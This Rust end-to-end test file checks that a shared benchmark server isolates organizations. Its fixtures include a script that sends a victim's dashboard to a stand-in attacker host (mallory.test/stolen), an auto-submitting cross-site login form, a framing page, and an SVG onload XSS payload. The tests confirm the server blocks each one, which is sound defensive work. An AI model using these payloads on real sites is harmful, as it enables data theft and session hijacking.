//! End-to-end: one `bench serve` shared by organizations that do not trust each other. An
//! HTML page stored as an artifact by one organization runs nothing when a reader of
//! another opens its link in Chromium; every answer carries the security headers; the login
//! page cannot be framed and a login posted from another site is refused; `bench serve keys
//! revoke` and logging out end sessions; two organizations use the same benchmark slug.

use crate::support::bench::{bench, run_command, Run};
use crate::support::browser::browse;
use crate::support::platform::Server;
use serde_json::{json, Value};
use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;
use tempfile::TempDir;

/// An answer: status, headers (names in lower case) and body.
struct Answer {
    status: u16,
    headers: Vec<(String, String)>,
    body: String,
}

impl Answer {
    /// The value of header `name`, empty without one.
    fn header(&self, name: &str) -> &str {
        self.headers
            .iter()
            .find(|(header, _)| header == name)
            .map_or("", |(_, value)| value.as_str())
    }

    fn json(&self) -> Value {
        serde_json::from_str(&self.body).unwrap_or(Value::Null)
    }
}

/// One request on its own connection, with `headers` and `body`.
fn send(port: u16, method: &str, path: &str, headers: &[(&str, &str)], body: &str) -> Answer {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    let mut head = format!(
        "{method} {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: {}\r\nConnection: close\r\n",
        body.len()
    );
    for (name, value) in headers {
        head.push_str(&format!("{name}: {value}\r\n"));
    }
    write!(stream, "{head}\r\n{body}").unwrap();
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).unwrap();
    let text = String::from_utf8_lossy(&answer);
    let (head, body) = text.split_once("\r\n\r\n").expect("an HTTP answer");
    let mut lines = head.lines();
    let status = lines.next().unwrap().split(' ').nth(1).unwrap();
    let headers = lines
        .filter_map(|line| line.split_once(':'))
        .map(|(name, value)| (name.to_ascii_lowercase(), value.trim().to_owned()))
        .collect();
    Answer {
        status: status.parse().unwrap(),
        headers,
        body: body.to_owned(),
    }
}

/// An API call with `key` and a JSON body (none for `Value::Null`); the answer must be 200.
fn api(port: u16, key: &str, method: &str, path: &str, body: &Value) -> Value {
    let bearer = format!("Bearer {key}");
    let body = match body {
        Value::Null => String::new(),
        body => body.to_string(),
    };
    let headers = [
        ("Authorization", bearer.as_str()),
        ("Content-Type", "application/json"),
    ];
    let answer = send(port, method, &format!("/api/v1{path}"), &headers, &body);
    assert_eq!(answer.status, 200, "{method} {path}: {}", answer.body);
    answer.json()
}

/// `bench serve <args> --db <the server's file>`, which must succeed.
fn admin(server: &Server, args: &[&str]) -> Run {
    let dir = server.db().parent().unwrap();
    let db = server.db().to_str().unwrap();
    let run = run_command(bench(dir).arg("serve").args(args).args(["--db", db]));
    assert_eq!(run.code, Some(0), "bench serve {args:?}: {}", run.stderr);
    run
}

/// A key of a new organization `org`, made by `bench serve orgs create` and `keys create`.
fn org_key(server: &Server, org: &str) -> String {
    admin(server, &["orgs", "create", org]);
    let created = admin(server, &["keys", "create", "--org", org]);
    created
        .stdout
        .trim()
        .strip_prefix("API key: ")
        .unwrap_or_else(|| panic!("{}", created.stdout))
        .to_owned()
}

/// The download URL of an artifact `key`'s organization stored: `body`, declared as
/// `content_type`, named `name`, of a worker of a new run of benchmark `slug`.
fn stored_artifact(
    server: &Server,
    key: &str,
    slug: &str,
    (name, content_type, body): (&str, &str, &str),
) -> String {
    let port = server.port;
    api(
        port,
        key,
        "PUT",
        &format!("/benchmarks/{slug}"),
        &json!({"name": slug}),
    );
    let run = api(
        port,
        key,
        "POST",
        &format!("/benchmarks/{slug}/runs"),
        &json!({"totalTasks": 1, "workerCount": 1, "participants": ["p"]}),
    );
    let run_id = run["run"]["id"].as_str().unwrap();
    let workers = format!("/benchmarks/{slug}/runs/{run_id}/participants/p/workers");
    api(port, key, "POST", &workers, &json!({}));
    let claim = api(port, key, "POST", &format!("{workers}/claim"), &json!({}));
    let assignment = &claim["assignment"];
    let worker_id = assignment["workerId"].as_str().unwrap();
    let created = api(
        port,
        key,
        "POST",
        &format!("/benchmarks/{slug}/runs/{run_id}/workers/{worker_id}/artifacts"),
        &json!({"attemptId": assignment["attemptId"], "kind": "coordinator.log",
            "contentType": content_type, "name": name, "metadata": {"sizeBytes": body.len()}}),
    );
    let upload = created["uploadUrl"].as_str().unwrap();
    let upload = &upload[upload.find("/api/v1/").unwrap()..];
    let uploaded = send(port, "PUT", upload, &[("Content-Type", content_type)], body);
    assert_eq!(uploaded.status, 200, "{}", uploaded.body);
    let artifact_id = created["artifactId"].as_str().unwrap();
    let shown = api(
        port,
        key,
        "GET",
        &format!("/benchmarks/{slug}/runs/{run_id}/workers/{worker_id}/artifacts/{artifact_id}"),
        &Value::Null,
    );
    shown["downloadUrl"].as_str().unwrap().to_owned()
}

/// A page of mallory's that, if it ever runs in the dashboard's origin, reads the reader's
/// benchmarks and sends them to mallory's server.
const STEALING_PAGE: &str = "<!DOCTYPE html><html><body><script>
fetch('/').then((r) => r.text()).then((t) =>
  fetch('http://mallory.test/stolen', {method: 'POST', mode: 'no-cors', body: location.href + ' ' + t}));
</script></body></html>";

#[test]
fn a_hostile_organization_reads_nothing_of_another_in_the_browser() {
    let dir = TempDir::new().unwrap();
    let server = Server::start(dir.path());
    let mallory = org_key(&server, "mallory");
    let download = stored_artifact(
        &server,
        &mallory,
        "steal",
        ("index.html", "text/html", STEALING_PAGE),
    );
    let root = server.url();
    // Mallory's page on another site frames the login page, then posts mallory's key to it.
    let framing = format!("<!DOCTYPE html><iframe src=\"{root}/login\"></iframe>");
    let auto_login = format!(
        "<!DOCTYPE html><form method=\"post\" action=\"{root}/login\">\
         <input name=\"key\" value=\"{mallory}\"><input name=\"next\" value=\"/\"></form>\
         <script>document.forms[0].submit()</script>"
    );
    let answer = browse(&json!({
        "capture": "http://mallory.test/stolen",
        "visits": [
            {"url": format!("{root}/"), "login": server.key},
            {"url": download},
            {"url": "http://mallory.test/frame", "html": framing},
            {"url": "http://mallory.test/login", "html": auto_login},
            {"url": format!("{root}/")},
        ],
    }));
    let visits = answer["visits"].as_array().unwrap();
    assert!(
        visits[0]["url"]
            .as_str()
            .unwrap()
            .ends_with("/local/benchmarks"),
        "{answer}"
    );
    // The artifact is a file to save, and its script never ran.
    assert_eq!(visits[1]["download"], "index.html", "{answer}");
    assert_eq!(
        answer["captured"],
        json!([]),
        "mallory's page ran: {answer}"
    );
    // The login page does not show in mallory's frame.
    let frames = visits[2]["frames"].as_array().unwrap();
    assert_eq!(frames.len(), 1, "{answer}");
    assert_eq!(
        frames[0]["loginForm"], false,
        "the login page was framed: {answer}"
    );
    // Mallory's login is refused, and the reader is still in their own organization.
    assert!(
        visits[3]["text"]
            .as_str()
            .unwrap()
            .contains("This form was sent from another site"),
        "{answer}"
    );
    assert!(
        visits[4]["url"]
            .as_str()
            .unwrap()
            .ends_with("/local/benchmarks"),
        "the reader's session was replaced: {answer}"
    );
}

/// A request (method, path, headers) and the status it must be answered with.
type Expected<'a> = (&'a str, &'a str, Vec<(&'a str, &'a str)>, u16);

#[test]
fn every_answer_carries_the_security_headers_and_artifacts_are_downloads() {
    let dir = TempDir::new().unwrap();
    let server = Server::start(dir.path());
    let port = server.port;
    let key = format!("Bearer {}", server.key);
    let download = stored_artifact(
        &server,
        &server.key,
        "s",
        ("x.svg", "image/svg+xml", "<svg onload=\"alert(1)\"/>"),
    );
    let download = &download[download.find("/api/v1/").unwrap()..];
    let cross_site = [
        ("Origin", "https://elsewhere.test"),
        ("Content-Type", "application/x-www-form-urlencoded"),
    ];
    let requests: Vec<Expected> = vec![
        ("GET", "/", vec![], 303),
        ("GET", "/login", vec![], 200),
        ("POST", "/login", cross_site.to_vec(), 403),
        ("GET", "/logout", vec![], 200),
        ("GET", "/local/benchmarks", vec![], 303),
        ("GET", "/assets/page.js", vec![], 200),
        ("GET", "/assets/echarts.min.js", vec![], 200),
        (
            "GET",
            "/api/v1/me",
            vec![("Authorization", key.as_str())],
            200,
        ),
        ("GET", "/api/v1/me", vec![], 401),
        ("GET", download, vec![], 200),
        ("GET", "/api/v1/downloads/forged", vec![], 404),
        ("GET", "/no/such/page/at/all", vec![], 404),
    ];
    for (method, path, headers, status) in requests {
        let body = if method == "POST" { "key=bp_x" } else { "" };
        let answer = send(port, method, path, &headers, body);
        let at = format!("{method} {path}");
        assert_eq!(answer.status, status, "{at}: {}", answer.body);
        let policy = answer.header("content-security-policy");
        assert!(
            policy.contains("frame-ancestors 'none'"),
            "{at}: {policy:?}"
        );
        let scripts = policy
            .split(';')
            .find(|directive| directive.trim().starts_with("script-src"))
            .unwrap_or_default();
        assert!(!scripts.contains("unsafe-inline"), "{at}: {policy}");
        assert_eq!(answer.header("x-frame-options"), "DENY", "{at}");
        assert_eq!(answer.header("x-content-type-options"), "nosniff", "{at}");
        assert_eq!(answer.header("referrer-policy"), "no-referrer", "{at}");
        if answer.header("content-type").starts_with("text/html") {
            assert!(policy.contains("script-src 'self'"), "{at}: {policy}");
        } else {
            assert!(policy.contains("sandbox"), "{at}: {policy}");
        }
    }
    let svg = send(port, "GET", download, &[], "");
    assert_eq!(svg.header("content-type"), "application/octet-stream");
    assert_eq!(
        svg.header("content-disposition"),
        "attachment; filename=\"x.svg\""
    );
    assert_eq!(svg.body, "<svg onload=\"alert(1)\"/>");
}

/// Logs in with `key` from this server's login page; the session cookie (`name=value`).
fn log_in(port: u16, key: &str) -> String {
    let origin = format!("http://127.0.0.1:{port}");
    let headers = [
        ("Origin", origin.as_str()),
        ("Content-Type", "application/x-www-form-urlencoded"),
    ];
    let answer = send(
        port,
        "POST",
        "/login",
        &headers,
        &format!("key={key}&next=/"),
    );
    assert_eq!(answer.status, 303, "{}", answer.body);
    let cookie = answer.header("set-cookie");
    assert!(!cookie.contains(key), "the cookie holds the key: {cookie}");
    cookie.split(';').next().unwrap().to_owned()
}

#[test]
fn revoking_a_key_or_logging_out_ends_sessions_and_slugs_are_per_organization() {
    let dir = TempDir::new().unwrap();
    let server = Server::start(dir.path());
    let port = server.port;
    let acme = org_key(&server, "acme");
    // The same slug in two organizations: two benchmarks, each seeing only its own.
    for (key, name) in [(server.key.as_str(), "Local's"), (acme.as_str(), "Acme's")] {
        api(
            port,
            key,
            "PUT",
            "/benchmarks/shared",
            &json!({"name": name}),
        );
    }
    let local = api(port, &server.key, "GET", "/benchmarks/shared", &Value::Null);
    assert_eq!(local["benchmark"]["name"], "Local's");
    let theirs = api(port, &acme, "GET", "/benchmarks/shared", &Value::Null);
    assert_eq!(theirs["benchmark"]["name"], "Acme's");

    let listed = admin(&server, &["keys", "list"]).stdout;
    assert!(
        listed.contains("acme") && listed.contains(&acme[..9]),
        "{listed}"
    );
    assert!(!listed.contains(&acme), "keys list shows a key: {listed}");

    let first = log_in(port, &acme);
    let second = log_in(port, &acme);
    let page =
        |cookie: &str| send(port, "GET", "/acme/benchmarks", &[("Cookie", cookie)], "").status;
    assert_eq!((page(&first), page(&second)), (200, 200));
    let origin = format!("http://127.0.0.1:{port}");
    let logout = [("Cookie", first.as_str()), ("Origin", origin.as_str())];
    assert_eq!(send(port, "POST", "/logout", &logout, "").status, 303);
    assert_eq!(page(&first), 303, "a logged-out session still opens pages");
    assert_eq!(page(&second), 200);

    let revoked = admin(&server, &["keys", "revoke", &acme[..9]]).stdout;
    assert!(
        revoked.contains("revoked (1 session(s) ended)"),
        "{revoked}"
    );
    assert_eq!(page(&second), 303, "a session outlived its key");
    let me = send(
        port,
        "GET",
        "/api/v1/me",
        &[("Authorization", &format!("Bearer {acme}"))],
        "",
    );
    assert_eq!(me.status, 401);
    // The other organization's key and benchmark are untouched.
    let local = api(port, &server.key, "GET", "/benchmarks/shared", &Value::Null);
    assert_eq!(local["benchmark"]["name"], "Local's");
}
